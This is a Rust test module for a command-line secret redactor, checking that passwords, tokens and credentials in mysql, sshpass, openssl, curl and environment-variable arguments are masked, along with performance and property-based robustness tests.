        // Another command's options stay: `echo`'s, ssh's port after sshpass's options.
        let r = Redactor::new(&[]).unwrap();
        for (text, want) in [
            ("mysql -pA; echo -pB", "mysql -p[REDACTED]; echo -pB"),
            ("sshpass -p A ssh -p 22 h", "sshpass -p [REDACTED] ssh -p 22 h"),
            ("curl -o /tmp/mysql -pX -pY", "curl -o /tmp/mysql -pX -pY"),
        ] {
            assert_eq!(r.text(text), want);
        }
    }

    #[test]
    fn a_backtick_inside_an_argument_s_secret_is_the_secret_s() {
        assert_argvs(&[
            (
                &["docker", "run", "-e", "MYSQL_ROOT_PASSWORD=Xy`9z!", "mysql"],
                &["docker", "run", "-e", "MYSQL_ROOT_PASSWORD=[REDACTED]", "mysql"],
                "9z",
            ),
            (&["env", "DB_PASSWORD=ab`cd", "app"], &["env", "DB_PASSWORD=[REDACTED]", "app"], "cd"),
        ]);
    }

    #[test]
    fn openssl_pass_phrases_with_an_equals_sign_or_two_dashes_and_sshpass_s_variable_are_replaced() {
        assert_argvs(&[
            (&["openssl", "enc", "-k=hunter2"], &["openssl", "enc", "-k=[REDACTED]"], "hunter2"),
            (&["openssl", "enc", "--k", "hunter2"], &["openssl", "enc", "--k", "[REDACTED]"], "hunter2"),
            (&["openssl", "rsa", "-passin=pass:hunter2"], &["openssl", "rsa", "-passin=pass:[REDACTED]"], "hunter2"),
            (
                &["openssl", "rsa", "--passout", "pass:hunter2"],
                &["openssl", "rsa", "--passout", "pass:[REDACTED]"],
                "hunter2",
            ),
            (
                &["env", "SSHPASS=hunter2", "sshpass", "-e", "ssh", "h"],
                &["env", "SSHPASS=[REDACTED]", "sshpass", "-e", "ssh", "h"],
                "hunter2",
            ),
        ]);
        assert_texts(&[
            ("openssl enc -aes256 -k hunter2 -in a", "openssl enc -aes256 -k [REDACTED] -in a", "hunter2"),
            ("exec_start: openssl enc -k=hunter2", "exec_start: openssl enc -k=[REDACTED]", "hunter2"),
            ("openssl rsa -passin=pass:hunter2", "openssl rsa -passin=pass:[REDACTED]", "hunter2"),
            ("openssl rsa --passin pass:hunter2", "openssl rsa --passin pass:[REDACTED]", "hunter2"),
            ("SSHPASS=hunter2 sshpass -e ssh h", "SSHPASS=[REDACTED] sshpass -e ssh h", "hunter2"),
        ]);
        assert_plain(&[&["openssl", "rsa", "-passin=env:KEY", "-kfile", "/run/k"], &["ssh", "-k", "h"]]);
    }

    #[test]
    fn common_spellings_of_secrets_are_replaced() {
        assert_argvs(&[
            (&["sshpass", "-p", "hunter2", "ssh", "h"], &["sshpass", "-p", "[REDACTED]", "ssh", "h"], "hunter2"),
            (&["sshpass", "-phunter2", "ssh", "h"], &["sshpass", "-p[REDACTED]", "ssh", "h"], "hunter2"),
            (
                &["openssl", "rsa", "-in", "k.pem", "-passin", "pass:hunter2"],
                &["openssl", "rsa", "-in", "k.pem", "-passin", "pass:[REDACTED]"],
                "hunter2",
            ),
            (
                &["openssl", "enc", "-aes256", "-pass", "pass:hunter2", "-k", "s3cret"],
                &["openssl", "enc", "-aes256", "-pass", "pass:[REDACTED]", "-k", "[REDACTED]"],
                "hunter2",
            ),
            (&["env", "MYSQL_PWD=hunter2", "mysql"], &["env", "MYSQL_PWD=[REDACTED]", "mysql"], "hunter2"),
            (
                &["env", "RABBITMQ_DEFAULT_PASS=hunter2", "DB_PASS=x2", "run"],
                &["env", "RABBITMQ_DEFAULT_PASS=[REDACTED]", "DB_PASS=[REDACTED]", "run"],
                "hunter2",
            ),
            (
                &["env", "OPENAI_API_KEY=sk-1", "X_APIKEY=k2", "SSH_PRIVATE_KEY=k3", "run"],
                &["env", "OPENAI_API_KEY=[REDACTED]", "X_APIKEY=[REDACTED]", "SSH_PRIVATE_KEY=[REDACTED]", "run"],
                "sk-1",
            ),
            // A MySQL client anywhere in argv, not only argv[0].
            (&["env", "mysql", "-phunter2"], &["env", "mysql", "-p[REDACTED]"], "hunter2"),
            (
                &["sudo", "mysql", "-uroot", "-phunter2", "shop"],
                &["sudo", "mysql", "-uroot", "-p[REDACTED]", "shop"],
                "hunter2",
            ),
            (&["timeout", "5", "mysql", "-phunter2"], &["timeout", "5", "mysql", "-p[REDACTED]"], "hunter2"),
            (
                &["/usr/bin/sudo", "/usr/bin/mariadb-dump", "-phunter2"],
                &["/usr/bin/sudo", "/usr/bin/mariadb-dump", "-p[REDACTED]"],
                "hunter2",
            ),
            // Secret options of any name ending in a secret's word, with one or two dashes.
            (
                &["app", "--db-password", "hunter2", "--port", "5"],
                &["app", "--db-password", "[REDACTED]", "--port", "5"],
                "hunter2",
            ),
            (&["vault", "login", "-token", "hunter2"], &["vault", "login", "-token", "[REDACTED]"], "hunter2"),
            (&["app", "-token=hunter2", "-v"], &["app", "-token=[REDACTED]", "-v"], "hunter2"),
            (&["app", "--DB-PASSWORD", "hunter2"], &["app", "--DB-PASSWORD", "[REDACTED]"], "hunter2"),
            (
                &["app", "--client_secret", "s3", "--api_key=k4"],
                &["app", "--client_secret", "[REDACTED]", "--api_key=[REDACTED]"],
                "s3",
            ),
            (&["app", "--admin-passwd", "hunter2"], &["app", "--admin-passwd", "[REDACTED]"], "hunter2"),
            // curl's credentials: the password, after the colon.
            (&["curl", "-u", "bob:hunter2", "https://x"], &["curl", "-u", "bob:[REDACTED]", "https://x"], "hunter2"),
            (
                &["curl", "--user", "bob:hunter2", "https://x"],
                &["curl", "--user", "bob:[REDACTED]", "https://x"],
                "hunter2",
            ),
            (&["curl", "-ubob:hunter2", "https://x"], &["curl", "-ubob:[REDACTED]", "https://x"], "hunter2"),
            (&["curl", "--user=bob:hunter2"], &["curl", "--user=bob:[REDACTED]"], "hunter2"),
            (
                &["sudo", "/usr/bin/curl", "-U", "proxy:hunter2", "-u", ":t0ken"],
                &["sudo", "/usr/bin/curl", "-U", "proxy:[REDACTED]", "-u", ":[REDACTED]"],
                "t0ken",
            ),
        ]);
        assert_texts(&[
            (
                "exec_start: app --db-password hunter2 --port 5",
                "exec_start: app --db-password [REDACTED] --port 5",
                "hunter2",
            ),
            ("vault login -token hunter2", "vault login -token [REDACTED]", "hunter2"),
            ("psql --no-password db --token=hunter2", "psql --no-password db --token=[REDACTED]", "hunter2"),
            ("exec_create: env mysql -uroot -phunter2", "exec_create: env mysql -uroot -p[REDACTED]", "hunter2"),
            ("MYSQL_PWD=hunter2 mysqldump shop", "MYSQL_PWD=[REDACTED] mysqldump shop", "hunter2"),
            ("curl -s -u bob:hunter2 https://x", "curl -s -u bob:[REDACTED] https://x", "hunter2"),
            ("curl --user=bob:hunter2 https://x", "curl --user=bob:[REDACTED] https://x", "hunter2"),
            ("CURL -ubob:hunter2 https://x", "CURL -ubob:[REDACTED] https://x", "hunter2"),
            ("https://api/x?apikey=hunter2&q=1", "https://api/x?apikey=[REDACTED]&q=1", "hunter2"),
        ]);
        // What names a file or a flag, and what is not after a MySQL client or curl, stays.
        assert_plain(&[
            &["app", "--password-file", "/run/secrets/x"],
            &["app", "--password-file=/run/secrets/x", "--token-file", "/t"],
            &["env", "POSTGRES_PASSWORD_FILE=/run/secrets/db", "MYSQL_ROOT_PASSWORD_FILE=/run/x", "run"],
            &["psql", "--no-password", "shop"],
            &["ansible-playbook", "--ask-vault-password", "site.yml"],
            &["gh", "auth", "login", "--with-token", "--hostname", "h"],
            &["docker", "login", "--password-stdin", "reg"],
            &["nc", "-p", "8080"],
            &["app", "-p", "8080", "-pfoo"],
            &["mysql", "-u", "root", "-p"],
            &["sudo", "-u", "bob", "ls"],
            &["docker", "exec", "-u", "1000:1000", "c", "ls"],
            &["curl", "-u", "bob", "https://x"],
            &["echo", "OLDPWD=/x", "PWD=/y", "BYPASS=1"],
            &["tar", "-xf", "passwords.tar"],
            &["sh", "-c", "ls -p /tmp; mysql_config --libs"],
        ]);
    }

    #[test]
    fn user_patterns_too_big_to_match_together_still_apply_one_by_one() {
        // Each compiles alone; together they are over the regex crate's size limit.
        let big: Vec<String> = (0..8).map(|i| format!(r"key{i}=(\w{{40}})")).collect();
        for p in &big {
            check(p).unwrap();
        }
        assert!(RegexSet::new(big.iter().chain(builtin().iter().map(|(p, ..)| p))).is_err(), "not too big");
        let r = Redactor::new(&big).unwrap();
        assert!(r.set.is_none());
        let secret = "a".repeat(40);
        assert_eq!(r.text(&format!("key7={secret} --token=x")), "key7=[REDACTED] --token=[REDACTED]");
    }

    #[test]
    fn a_text_full_of_near_secrets_is_read_in_linear_time() {
        // Docker's `Action` is as long as the exec's command line: megabytes. Each text would take
        // minutes if a secret's scan went back over what was read before.
        let n = 1 << 18;
        let r = Redactor::new(&[]).unwrap();
        let texts = [
            "--no-password x ".repeat(n / 16),
            format!("{}-p;", "mysql ".repeat(n / 6)),
            format!("{}-u x", "curl ".repeat(n / 5)),
            format!("sh -c \"a {}", "--token=x' ".repeat(n / 11)),
            format!("sh -c \"a --token=x{}", "'".repeat(n)),
            format!("sh -c \"a {}", "--token=\\\" ".repeat(n / 11)),
            "DB_PASSWORD_FILE=/x ".repeat(n / 20),
            format!("{}'", "TOKEN=' ".repeat(n / 8)),
            "--token=$(x ".repeat(n / 12),
            format!("sh -c 'x {}", "\"--token=a b ".repeat(n / 14)),
            format!("bash -c \"x {}", "\\\"DB_PASSWORD=a ".repeat(n / 18)),
            // Tools' options after names that are not commands, and commands in scripts.
            "x /mysql -p$(".repeat(n / 13),
            "x /curl -u $(".repeat(n / 13),
            "x /openssl -k $(".repeat(n / 16),
            format!("mysql {} -px", "`mysql`".repeat(n / 7)),
            format!("mysql {} -px", "(mysql)".repeat(n / 7)),
            // A tool's every option in its command: each found after the last, none searched
            // for again from the text's start or past its end once more.
            format!("mysql{}", " -px".repeat(n / 4)),
            format!("mysql -pa{}", " $(echo -px)".repeat(n / 12)),
            format!("curl{}", " -u a:b".repeat(n / 7)),
        ];
        let start = std::time::Instant::now();
        for t in &texts {
            let _ = r.text(t);
        }
        assert!(start.elapsed() < std::time::Duration::from_secs(10), "{:?}", start.elapsed());
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 4096, ..Default::default() })]
        /// Any text, any argv (quotes, escapes, multi-byte characters, the patterns' words cut
        /// anywhere): redaction never panics, and what it writes is the input or has a mark.
        #[test]
        fn any_text_or_argv_is_redacted_without_a_panic(
            parts in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::sample::select(vec![
                        "--password", "=", "-p", "mysql", "curl", "-u", "bob:", "://", ":", "@", "'", "\"", "$'", "\\",
                        "`", "$(", ")", " ", ";", "|", "DB_PASSWORD=", "Authorization: Bearer ", "-token", "é", "ſ", "…",
                        "openssl", "-k", "sudo", "-exec", "find", "sshpass",
                        "[REDACTED]",
                    ]).prop_map(str::to_owned),
                    ".{0,6}",
                ],
                0..16,
            )
        ) {
            static R: std::sync::LazyLock<Redactor> = std::sync::LazyLock::new(|| Redactor::new(&[]).unwrap());
            let r = &*R;
            let text: String = parts.concat();
            let out = r.text(&text);
            proptest::prop_assert!(out == text || out.contains(MARK), "{text:?} -> {out:?}");
            let mut argv = parts.clone();
            if r.args(&mut argv) {
                proptest::prop_assert!(argv.iter().any(|a| a.contains(MARK)), "{parts:?} -> {argv:?}");
            }
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 4096, max_global_rejects: 1 << 16, ..Default::default() })]
        /// `may_hold_builtin` is sound: a text it passes over matches no built-in pattern,
        /// however it mixes the patterns' words and characters, quotes, spaces and `@`.
        #[test]
        fn text_the_shortcut_skips_matches_no_built_in_pattern(
            words in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::sample::select(vec![
                        "mysql", "MySQL", "password", "PASSWORD", "DB_PASSWORD", "secret", "_TOKEN", "token",
                        "authorization", "Authorization:", "AUTHORIZATION:", "authorization :", "Bearer", "basic",
                        "https", "https:/", "://", "https://user:", "pw@", "user", "@", "//", " ", "\t", "\n", "'", "\"", "-", "-P", "- p",
                        "--", "-p", ":", "=", "p", "P", "x", "hunter2", "mysql -p", "--password ", "--token", "authorization: bearer ",
                        "Authorization: Basic ",
                        "openssl", "OpenSSL", "-k", "-k=", "--k ", "/tmp/openssl", "SSHPASS",
                        "-token", "TOKEN", "-Secret", "api-key", "ApiKey", "api_KEY", "-apikey", "_pass", "DB_PASS", "-pass",
                        "MYSQL_PWD", "PRIVATE_KEY", "_FILE", "no-", "curl", "CURL", "-u", "-U", "--user", "--proxy-user",
                        "bob:", "redis://:", "p@ss@", "$'", "\\", "\\\"", ";", "|", "&", "(", "<", "db-password",
                    ]).prop_map(str::to_owned),
                    "[^=]{0,8}",
                ],
                0..12,
            )
        ) {
            let text: String = words.concat();
            proptest::prop_assume!(!may_hold_builtin(&text));
            static SET: std::sync::LazyLock<RegexSet> =
                std::sync::LazyLock::new(|| RegexSet::new(builtin().into_iter().map(|(p, ..)| p)).unwrap());
            proptest::prop_assert!(!SET.is_match(&text), "{text:?}");
        }

        /// `may_hold_tool_option` is sound: the masked copy of a text it passes over matches no
        /// tool's pattern, so skipping the copy misses nothing.
        #[test]
        fn the_masked_copy_skipped_would_match_no_tool_pattern(
            words in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::sample::select(vec![
                        "mysql", "curl", "sshpass", "openssl", " ", "\t", "\n", "\\\n", "'", "\"", ";", "|", "&", "-",
                        "-p", "-u", "-U", "-k", "--k", "--k=", "--user", "--user=", "--proxy-user", "--port", "-e",
                        "--", "x", "a:b", "exec_create: ", "sh -c ", "$(", ")", "`",
                    ]).prop_map(str::to_owned),
                    "[a-z;&| '\"-]{0,6}",
                ],
                0..14,
            )
        ) {
            let text: String = words.concat();
            proptest::prop_assume!(!may_hold_tool_option(text.as_bytes()));
            let Some(masked) = operators_masked(&text) else { return Ok(()) };
            for (p, kind, option) in builtin() {
                if option.is_some() {
                    let re = Regex::new(&p).unwrap();
                    proptest::prop_assert!(!re.is_match(&masked.text), "{kind:?} {p} {text:?}");
                }
            }
        }
    }

    #[test]
    fn the_shortcut_skips_common_arguments_and_keeps_every_documented_secret() {
        for plain in ["/bin/true", "-c", "-l", "name-1", "mark-4021-3", "/usr/lib/x86_64-linux-gnu", "10:30", "a:b:c"] {
            assert!(!may_hold_builtin(plain), "{plain:?}");
        }
        for secret in [
            "mysql -phunter2",
            "--password=x",
            "DB_PASSWORD=y",
            "Authorization: Bearer abc",
            "AUTHORIZATION: basic abc",
            "https://u:p@host",
            "authorizaTİon: x",
            "-token x",
            "-DB-PASSWORD x",
            "-api_key x",
            "curl -u bob:x",
            "CURL -Ubob:x",
            "redis://:x@db",
            "openssl enc -k x",
            "SSHPASS=x",
        ] {
            assert!(may_hold_builtin(secret), "{secret:?}");
        }
    }

    #[test]
    fn the_shortcut_needs_no_user_pattern() {
        // A user pattern may need none of the built-in patterns' characters.
        let r = Redactor::new(&["key (\\w+)".into()]).unwrap();
        assert_eq!(r.text("key abc"), "key [REDACTED]");
        assert_eq!(Redactor::new(&[]).unwrap().text("key abc"), Cow::Borrowed("key abc"));
    }

    #[test]
    fn redacting_twice_changes_nothing_more() {
        let (once, _) = argv(&["mysql", "-phunter2", "--password", "x", "DB_PASSWORD=y"]);
        let r = Redactor::new(&[]).unwrap();
        let mut twice = once.clone();
        assert!(!r.args(&mut twice), "{twice:?}");
        assert_eq!(once, twice);
    }

    #[test]
    fn user_patterns_need_a_group_and_add_to_the_built_in_ones() {
        assert!(matches!(Redactor::new(&["--db-key=\\S+".into()]), Err(BuildError::Pattern(0, PatternError::NoGroup))));
        assert!(matches!(Redactor::new(&["(".into()]), Err(BuildError::Pattern(0, PatternError::Syntax(_)))));
        let r = Redactor::new(&["--db-key=(\\S+)".into()]).unwrap();
        assert_eq!(r.text("run --db-key=abc --password=x"), "run --db-key=[REDACTED] --password=[REDACTED]");
        assert_eq!(r.text("nothing here"), Cow::Borrowed("nothing here"));
    }
}
